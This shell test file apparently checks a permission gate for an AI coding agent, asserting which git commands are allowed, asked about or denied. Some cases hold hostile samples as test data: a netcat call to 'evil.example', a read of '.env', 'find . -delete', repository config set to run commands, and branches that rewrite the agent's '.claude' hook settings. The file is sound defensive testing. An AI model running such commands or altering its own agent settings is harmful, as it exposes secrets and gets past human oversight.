# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=sh disable=SC2016,SC2119
# git commands that change files which the command line does not name, judged by the files that they would change in a real
# repository: what is allowed passes, what asks asks, and a branch that brings other settings for the agent does not.
. tests/cli/gate_support.sh
real_repository
git config --global advice.detachedHead false
sed -i 's|^confirm before.*|confirm before git.push, file.write:docs/**|; s|^deny |deny file.write:locked/**, |' "$ws/.aex/policy.aex"
accept
mkdir "$ws/.claude" "$ws/locked"
echo '{}' >"$ws/.claude/settings.json"
echo a >"$ws/src/a.c"
echo l >"$ws/locked/l"
git -C "$ws" add -A
git -C "$ws" commit -qm first

# branch NAME COMMAND...: a branch of main with what the command changes in it.
branch() {
	git -C "$ws" checkout -q -b "$1" main
	shift
	(cd "$ws" && "$@")
	git -C "$ws" add -A
	git -C "$ws" commit -qm change
	git -C "$ws" checkout -q main
}
branch plain sh -c 'echo b >src/b.c; git rm -q src/a.c'
branch asking sh -c 'echo d >docs/d'
branch locked sh -c 'echo x >>locked/l'
branch unlocking sh -c 'git rm -q locked/l'
branch evil sh -c 'echo "{\"hooks\":{}}" >.claude/settings.json'
branch newfile sh -c 'mkdir -p .codex; echo x >.codex/config.toml'
# One name for a harmless tag and another branch: git switch takes the branch, git merge the tag.
git -C "$ws" tag twice plain
git -C "$ws" branch twice evil
# A branch that only a remote has, and one that two have.
git init -q --bare "$scratch/remote"
git -C "$ws" remote add origin "$scratch/remote"
git -C "$ws" push -q origin plain:far evil:farevil plain:both
git -C "$ws" remote add other "$scratch/remote"
git -C "$ws" fetch -q origin
git -C "$ws" fetch -q other farevil:refs/remotes/other/both
git -C "$ws" checkout -q plain
git -C "$ws" checkout -q main
# The main branch moves on, so that merges have two sides.
echo m >"$ws/sub/m"
git -C "$ws" add -A
git -C "$ws" commit -qm main

expect() {
	is "$2: $1" "$(decide Bash "{\"command\":\"$2\"}")" "$1"
}
expect allow 'git checkout plain'
expect allow 'git switch plain'
expect allow 'git switch --detach plain'

# To say what would pass of a refused line git is not asked again.
is 'a line with a part that is refused' "$(decide Bash '{"command":"cat src/a.c && git checkout plain && nc evil.example 1"}')" deny
has 'names the parts that pass' "$(last err)" 'What would pass: cat src/a.c'
lacks 'but for those that git was asked about' "$(last err | grep 'What would pass')" 'git checkout'
if command -v strace >/dev/null 2>&1; then
	hook_input Bash '{"command":"cat src/a.c && git checkout plain && nc evil.example 1"}' >"$scratch/input"
	(cd "$ws" && strace -f -qq -e trace=execve -o "$scratch/started" "$aex" gate claude --root "$ws" --state-dir "$state" <"$scratch/input" >/dev/null 2>&1)
	started=$(grep -c 'execve("/usr/bin/git"' "$scratch/started")
	hook_input Bash '{"command":"git checkout plain"}' >"$scratch/input"
	(cd "$ws" && strace -f -qq -e trace=execve -o "$scratch/started" "$aex" gate claude --root "$ws" --state-dir "$state" <"$scratch/input" >/dev/null 2>&1)
	is 'and starts git no more often than to judge it' "$started" "$(grep -c 'execve("/usr/bin/git"' "$scratch/started")"
else
	skip 'and starts git no more often than to judge it' 'strace is not installed'
fi
expect allow 'git checkout -b work plain'
expect allow 'git merge plain'
expect allow 'git merge --no-edit plain'
expect allow 'git checkout -'
expect allow 'git checkout HEAD~1'
expect allow 'git checkout far'
expect allow 'timeout 20 git checkout plain'
expect allow 'git checkout plain && git branch && git stash list && git status'
expect ask 'git checkout asking'
expect ask 'git merge asking'
expect deny 'git checkout locked'
expect deny 'git merge locked'
expect deny 'git switch unlocking'
expect deny 'git merge unlocking'
expect deny 'git checkout evil'
expect deny 'git switch evil'
expect deny 'git switch -c x evil'
expect deny 'git checkout --detach evil'
expect deny 'git checkout -f evil'
expect deny 'git merge evil'
expect deny 'git merge --squash evil'
expect deny 'git merge --no-commit evil'
expect deny 'git reset --hard evil'
expect deny 'git checkout evil -- .'
expect deny 'git restore --source=evil .'
expect deny 'git checkout newfile'
expect deny 'git merge newfile'
expect deny 'git switch twice'
expect deny 'git checkout twice'
expect deny 'git merge twice'
expect deny 'git checkout farevil'
expect deny 'git checkout both'
expect deny 'git checkout nosuchbranch'
expect deny 'git checkout .claude/settings.json'
expect deny 'git checkout .claude'
expect allow 'git checkout src/a.c'
expect allow 'git checkout src'
# What is not as it is now any more when the command comes to it.
expect deny 'git branch -f plain evil; git checkout plain'
expect deny 'git update-ref refs/heads/plain evil; git checkout plain'
expect deny 'git fetch origin && git checkout far'
expect deny 'cp .git/refs/heads/evil .git/refs/heads/plain && git checkout plain'
expect deny 'git tag -f x evil; git merge x'
expect deny 'npm test && git checkout plain'
expect deny 'for b in plain evil; do git checkout \"$b\"; done'
expect deny 'while read -r b; do git checkout plain; git merge evil; done < a.txt'
expect deny 'git checkout plain & git branch -f plain evil'
expect deny 'echo evil | xargs git checkout'
expect deny 'x=evil; git checkout $x'
expect allow 'x=plain; git checkout $x'

# The working tree: nothing to lose, something of no matter, something that is protected.
expect allow 'git stash'
expect allow 'git checkout .'
expect allow 'git restore .'
echo changed >"$ws/src/a.c"
expect allow 'git stash'
expect allow 'git stash push -m later'
expect allow 'git checkout .'
expect allow 'git checkout -- .'
expect allow 'git restore .'
expect allow 'git reset --hard'
git -C "$ws" stash -q
expect allow 'git stash pop'
expect allow 'git stash apply'
git -C "$ws" stash pop -q
echo changed >"$ws/.claude/settings.json"
expect deny 'git stash'
expect deny 'git checkout .'
expect deny 'git checkout -- .'
expect deny 'git restore .'
expect deny 'git restore --staged --worktree .'
expect deny 'git reset --hard'
expect deny 'git merge --abort'
git -C "$ws" stash -q
expect deny 'git stash pop'
expect deny 'git stash apply 0'
git -C "$ws" stash drop -q
# A protected file that git does not know yet would go away with the branch it is added to.
echo x >"$ws/.envrc"
expect allow 'git checkout plain'
git -C "$ws" add .envrc
expect deny 'git stash'
expect deny 'git reset --hard'
git -C "$ws" rm -q --cached .envrc

# Where the repository's top folder is, only git can say.
expect allow 'cd $(git rev-parse --show-toplevel) && cat src/a.c'
expect allow 'cd src; R=$(git rev-parse --show-toplevel); cat \"$R/src/a.c\"'
expect allow 'cd $(git rev-parse --show-toplevel) && rm -rf build'
expect deny 'cd $(git rev-parse --show-toplevel) && cat .env'
expect deny 'cd src && git init -q && cd $(git rev-parse --show-toplevel) && cat a.c'
expect deny 'find .git -delete; cd $(git rev-parse --show-toplevel) && cat src/a.c'
expect deny 'find . -delete; cd $(git rev-parse --show-toplevel) && cat src/a.c'
git -C "$ws" config core.worktree "$scratch"
expect deny 'cd $(git rev-parse --show-toplevel) && cat src/a.c'
git -C "$ws" config --unset core.worktree

# git without an answer: a repository that is none.
mv "$ws/.git/HEAD" "$scratch/HEAD"
expect deny 'git checkout plain'
expect deny 'git stash'
expect deny 'cd $(git rev-parse --show-toplevel) && cat src/a.c'
mv "$scratch/HEAD" "$ws/.git/HEAD"
expect allow 'git checkout plain'

# Settings in the repository that name programs are not run to find out.
git -C "$ws" config core.fsmonitor "touch $scratch/ran"
git -C "$ws" config diff.external "touch $scratch/ran"
printf '*.c filter=x diff=x\n' >"$ws/.git/info/attributes"
git -C "$ws" config filter.x.clean "touch $scratch/ran"
git -C "$ws" config diff.x.textconv "touch $scratch/ran"
echo again >"$ws/src/a.c"
for command in 'git checkout plain' 'git stash' 'git restore .' 'git merge plain'; do
	decide Bash "{\"command\":\"$command\"}" >/dev/null
done
ok 'finding out runs nothing of the repository' test ! -e "$scratch/ran"
done_testing
